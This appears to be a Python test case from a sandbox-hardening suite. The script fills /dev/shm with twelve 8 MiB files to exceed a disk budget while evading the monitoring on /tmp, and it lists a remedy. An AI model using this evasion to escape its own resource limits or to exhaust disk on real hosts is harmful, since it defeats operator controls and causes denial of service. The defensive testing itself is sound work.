# SPDX-License-Identifier: MIT
"""dev-shm.py - a disk bomb next door.

Goal: more bytes in the instance's writable folders than the budget.
Means: /tmp is watched, limited and emptied. /dev/shm is writable too, and is forgotten. Each file
is within RLIMIT_FSIZE.
"""

import os

from attack import attempting, denied, hold

MIB = 1 << 20
FILES = 12


def run(brief):
    block = b"x" * MIB
    attempting()
    try:
        for i in range(FILES):
            fd = os.open(f"/dev/shm/{brief.name}.{i}", os.O_WRONLY | os.O_CREAT, 0o600)
            for _ in range(8):
                os.write(fd, block)
            os.close(fd)
    except OSError as why:
        return denied("write to /dev/shm", why)
    return hold()


ATTACK = {
    "effect": "more bytes in writable folders than the budget, none of them in /tmp",
    "means": "twelve files of 8 MiB in /dev/shm",
    "oracle": "usage:disk",
    "id": "DISK-12",
    "attack_id": "T1499.001, CWE-400",
    "remedy": "Landlock with an allow list of folders; a watch on every writable mount",
    "run": run,
}
